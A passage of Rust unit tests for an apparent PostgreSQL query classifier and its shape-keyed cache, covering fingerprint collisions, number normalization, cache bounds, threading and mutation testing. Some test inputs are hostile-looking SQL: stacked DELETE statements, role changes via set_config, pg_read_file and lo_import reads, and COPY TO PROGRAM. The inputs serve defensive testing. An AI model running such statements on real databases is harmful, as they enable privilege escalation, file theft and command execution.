            ("EXECUTE harmless", "EXECUTE drop_everything"),
            // Digits in table names.
            ("SELECT * FROM orders_2023", "SELECT * FROM orders_9999"),
            // Aliases: a whole-row read of users, and a column named t.
            ("SELECT t FROM users t", "SELECT t FROM users u"),
        ] {
            let fa = pg_query::fingerprint(a).unwrap().value;
            let fb = pg_query::fingerprint(b).unwrap().value;
            assert_eq!(fa, fb, "{a} / {b}");
            assert_ne!(classify(a).unwrap(), classify(b).unwrap(), "{a} / {b}");
        }
    }

    #[test]
    fn numbers_share_a_cache_entry_only_where_they_cannot_matter() {
        assert_eq!(
            shape("SELECT abalance FROM pgbench_accounts WHERE aid = 54321;").as_deref(),
            Some("SELECT abalance FROM pgbench_accounts WHERE aid = 0")
        );
        assert_eq!(
            shape("select * from t2 where x = 1.5 and y = $1").as_deref(),
            Some("select * from t2 where x = 0.0 and y = $1")
        );
        for not in [
            "SELECT set_config('role', 'x', false)",
            "SELECT 1; DELETE FROM t",
            "SELECT * FROM \"t1\"",
            "SELECT $$1$$",
            "SELECT 1 -- 2",
            "SET work_mem = 1",
            "SELECT 'a'",
            "SELECT SET_CONFIG(1, 2, true)",
            // Digits the lexer reads together with letters: 1x1F does not parse, 0x1F does.
            "INSERT INTO s.t (a) VALUES (0x1F)",
            "INSERT INTO s.t (a) VALUES (1x1F)",
            "select * from t2 where x = 1.5e3",
            "SELECT 0b101, 0o17, 1_000",
        ] {
            assert_eq!(shape(not), None, "{not}");
        }
        // Found by the mutation test: the shape of 1x1F once hit 0x1F's entry and passed.
        let c = Classifier::new(16);
        assert!(c.classify("INSERT INTO s.t (a) VALUES (0x1F)").is_ok());
        assert!(c.classify("INSERT INTO s.t (a) VALUES (1x1F)").is_err());
        let c = Classifier::new(1024);
        let a = c
            .classify("SELECT abalance FROM pgbench_accounts WHERE aid = 1")
            .unwrap();
        let b = c
            .classify("SELECT abalance FROM pgbench_accounts WHERE aid = 2;")
            .unwrap();
        assert_eq!(c.len(), 1, "one entry for both");
        assert_eq!(
            b.statements[0].text,
            "SELECT abalance FROM pgbench_accounts WHERE aid = 2"
        );
        assert_eq!(a.statements[0].tables, b.statements[0].tables);
        assert_eq!(a.statements[0].kinds, b.statements[0].kinds);
        // A name with digits is not a number.
        let d = c
            .classify("SELECT abalance FROM pgbench_accounts2 WHERE aid = 3")
            .unwrap();
        assert_eq!(
            d.statements[0].tables,
            vec!["public.pgbench_accounts2".to_string()]
        );
    }

    #[test]
    fn the_cache_returns_the_same_classification() {
        let c = Classifier::new(100);
        assert!(c.is_empty());
        let a = c.classify("SELECT 1").unwrap();
        let b = c.classify("SELECT 1").unwrap();
        assert!(Arc::ptr_eq(&a, &b));
        assert_eq!(*a, classify("SELECT 1").unwrap());
        let other = c.classify("SELECT x").unwrap();
        assert!(!Arc::ptr_eq(&a, &other));
        assert_eq!(c.len(), 2);
        // Errors are returned, not cached.
        assert!(c.classify("SELEC 1").is_err());
        assert_eq!(c.len(), 2);
        // Literals matter: the exact text is the key.
        let role = c.classify("SELECT set_config('role', 'x', false)").unwrap();
        let mem = c.classify("SELECT set_config('work_mem', 'x', false)").unwrap();
        assert_eq!(role.statements[0].kinds, vec![K::Select, K::SetRole]);
        assert_eq!(mem.statements[0].kinds, vec![K::Select, K::Set]);
    }

    #[test]
    fn the_cache_is_bounded_and_keeps_what_is_used() {
        let c = Classifier::new(10);
        let hot = c.classify("SELECT 0").unwrap();
        for i in 1..1000 {
            c.classify(&format!("SELECT x{i}")).unwrap();
            // The hot entry is used all the time and stays.
            assert!(Arc::ptr_eq(&hot, &c.classify("SELECT 0").unwrap()));
            assert!(c.len() <= 10, "{}", c.len());
        }
        let big = Classifier::new(4096);
        for i in 0..20_000 {
            big.classify(&format!("SELECT x{i}")).unwrap();
        }
        assert!(big.len() <= 4096 && big.len() >= 1024, "{}", big.len());
        // No cache, and texts too long to cache.
        let none = Classifier::new(0);
        none.classify("SELECT 1").unwrap();
        assert!(none.is_empty());
        let long = format!("SELECT '{}'", "x".repeat(MAX_CACHED_TEXT));
        c.classify(&long).unwrap();
        assert!(!c.classify(&long).unwrap().statements.is_empty());
    }

    #[test]
    fn the_cache_is_shared_between_threads() {
        let c = Arc::new(Classifier::new(2048));
        let threads: Vec<_> = (0..4)
            .map(|t| {
                let c = c.clone();
                std::thread::spawn(move || {
                    for i in 0..500 {
                        let sql = format!("SELECT c{} FROM t{}", i % 50, t % 2);
                        let s = c.classify(&sql).unwrap();
                        assert_eq!(s.statements[0].tables, vec![format!("public.t{}", t % 2)]);
                    }
                })
            })
            .collect();
        for t in threads {
            t.join().unwrap();
        }
        assert_eq!(c.len(), 100);
    }

    /// The cache never changes an answer: on mutants of statements (digits, names, quotes,
    /// separators edited), one long-lived classifier, whose shape entries the mutants keep
    /// hitting, agrees with classifying each text afresh. And nothing panics on the way.
    #[test]
    fn hostile_statements_are_classified_as_without_the_cache() {
        let seeds: [&[u8]; 8] = [
            b"SELECT abalance FROM pgbench_accounts WHERE aid = 42",
            b"UPDATE pgbench_accounts SET abalance = abalance + 5 WHERE aid = 7;",
            b"DELETE FROM t1 WHERE id IN (SELECT id FROM t2 LIMIT 10)",
            b"WITH d AS (DELETE FROM t WHERE a > 1 RETURNING *) SELECT count(1) FROM d",
            b"INSERT INTO s.t (a, b) VALUES (1, 2e5), ($1, 0x1F) ON CONFLICT DO NOTHING",
            b"SELECT lo_import(1), pg_read_file('x', 0, 10), set_config('role', 'x', false)",
            b"EXPLAIN ANALYZE UPDATE t SET a = 1",
            b"SELECT * FROM t3 TABLESAMPLE SYSTEM (10) ORDER BY 1 FOR UPDATE; COPY t TO PROGRAM 'x'",
        ];
        let cached = Classifier::new(64);
        crate::mutate::each_mutant(&seeds, 1_500, |b| {
            let sql = String::from_utf8_lossy(b);
            let fresh = classify(&sql);
            let hit = cached.classify(&sql);
            match (fresh, hit) {
                (Ok(fresh), Ok(hit)) => assert_eq!(*hit, fresh, "{sql}"),
                (Err(_), Err(_)) => {}
                (fresh, hit) => panic!("{sql}: fresh {fresh:?}, cached {hit:?}"),
            }
        });
    }
}
